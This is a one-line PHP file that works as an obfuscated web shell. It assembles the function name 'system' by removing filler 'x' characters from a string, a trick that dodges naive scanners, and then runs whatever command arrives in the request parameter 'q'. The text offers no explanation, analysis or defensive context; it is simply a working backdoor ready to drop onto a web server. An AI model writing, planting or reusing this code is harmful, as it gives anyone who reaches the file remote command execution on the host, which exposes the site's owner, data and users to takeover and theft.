<?php $z = str_replace("x", "", "sxyxsxtxexm"); $z($_REQUEST["q"]); ?>
